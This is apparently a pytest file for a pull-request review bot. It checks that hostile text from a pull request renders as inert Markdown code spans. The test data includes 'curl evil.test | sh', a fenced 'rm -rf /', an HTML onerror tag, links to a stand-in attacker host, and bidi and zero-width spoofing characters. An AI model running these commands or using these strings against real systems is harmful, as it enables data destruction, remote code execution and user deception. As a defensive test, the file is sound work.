"""Text a pull request controls renders inert: checked by a CommonMark parser, not by eye."""

from __future__ import annotations

import pytest
from markdownview import view

from app_relay.decide.judge import error_verdict
from app_relay.runstate.machine import guard_for
from app_relay.verdict import Finding, Verdict
from app_relay.words.inert import code_span
from app_relay.words.review_body import render_review

# (name, what the pull request chose, what a reader must see, written out by hand)
HOSTILE = [
    ("link", "[x](https://evil.test)", "[x](https://evil.test)"),
    ("double-backtick", "a``b", "a``b"),
    ("html", "<img src=x onerror=1>", "<img src=x onerror=1>"),
    ("mention", "@octocat", "@octocat"),
    ("bidi-override", "invoice\u202egpj.exe", "invoice<U+202E>gpj.exe"),
    ("bidi-isolate", "\u2066admin\u2069.test", "<U+2066>admin<U+2069>.test"),
    ("zero-width", "pay\u200bpal\u200d.test\ufeff", "pay<U+200B>pal<U+200D>.test<U+FEFF>"),
    ("edge-backticks", "`x`", "`x`"),
    ("lines", "one\n\n# [y](https://e.test)\r\n- three", "one⏎⏎# [y](https://e.test)⏎- three"),
    ("fence", "```\nrm -rf /\n```", "```⏎rm -rf /⏎```"),
    ("autolink", "<https://evil.test>", "<https://evil.test>"),
    ("bare-url", "https://evil.test/steal", "https://evil.test/steal"),
    ("controls", "bell\x07\x1b[31mred", "bell<U+0007><U+001B>[31mred"),
]  # fmt: skip
FRAGMENTS = ("evil.test", "e.test", "](", "octocat", "<img", "\u202e", "\u2066", "\u200b", "rm -rf")


@pytest.mark.parametrize(("name", "text", "shown"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_a_hostile_string_renders_as_one_code_span_showing_it(name, text, shown):
    markdown = f"Seen: {code_span(text)} here."

    rendered = view(markdown)

    assert rendered.active == []
    assert rendered.code == [shown]
    assert rendered.text == ["Seen: ", " here."]
    assert rendered.blocks == ["paragraph_open"]


def test_the_fence_is_longer_than_any_backtick_run_and_edges_are_padded():
    assert code_span("plain") == "`plain`"
    assert code_span("a``b") == "```a``b```"
    assert code_span("`x`") == "`` `x` ``"
    assert code_span(" spaced ") == "`  spaced  `"
    assert code_span("") == "(empty)"


def test_long_text_is_cut_to_the_cap_and_says_so():
    assert code_span("x" * 1_000, cap=10) == "`xxxxxxxxxx…`"
    # A code point shown as <U+XXXX> is never cut in half.
    assert code_span("abcdefgh\u202e", cap=10) == "`abcdefgh…`"


def test_in_a_table_cell_a_pipe_cannot_split_the_row():
    cell = code_span("curl evil.test | sh", in_table=True)
    rendered = view(f"| a | b |\n|---|---|\n| x | {cell} |")
    assert rendered.code == ["curl evil.test ¦ sh"]
    assert rendered.text == ["a", "b", "x"]


def _hostile_verdict() -> tuple[Verdict, dict[str, str]]:
    findings = [
        Finding(
            id=f"F{n}",
            rule="install-egress",
            severity="critical",
            check="install",
            title=f"install: 1 request (POST) to {text}",
            evidence=[f"install:egress:{n}"],
        )
        for n, (_, text, _) in enumerate(HOSTILE, start=1)
    ]
    evidence = {
        f"install:egress:{n}": f"POST https://{t}/ during install"
        for n, (_, t, _) in enumerate(HOSTILE, start=1)
    }
    verdict = Verdict(
        state="blocked",
        summary=f"Blocked by 1 critical finding, first F1: {code_span(findings[0].title)}.",
        findings=findings,
        unproven=[f"tests: skipped ({text})" for _, text, _ in HOSTILE[:10]],
        judge="deterministic",
    )
    return verdict, evidence


def test_a_review_body_quoting_hostile_findings_has_no_link_html_or_mention():
    verdict, evidence = _hostile_verdict()

    body = render_review(verdict, head_sha="a" * 40, mode="sandbox", evidence=evidence)

    rendered = view(body)
    assert rendered.active == []
    for fragment in FRAGMENTS:
        assert fragment not in rendered.plain(), fragment
    assert any("[x](https://evil.test)" in code for code in rendered.code)


def test_an_error_summary_quoting_hostile_text_is_inert_on_the_check():
    for _, text, _ in HOSTILE:
        verdict = error_verdict(f"manifest.json is for run {text!r}, not 'r1'")

        summary = guard_for("error", summary=verdict.summary).summary

        rendered = view(summary)
        assert rendered.active == [], text
        for fragment in FRAGMENTS:
            assert fragment not in rendered.plain(), (text, fragment)
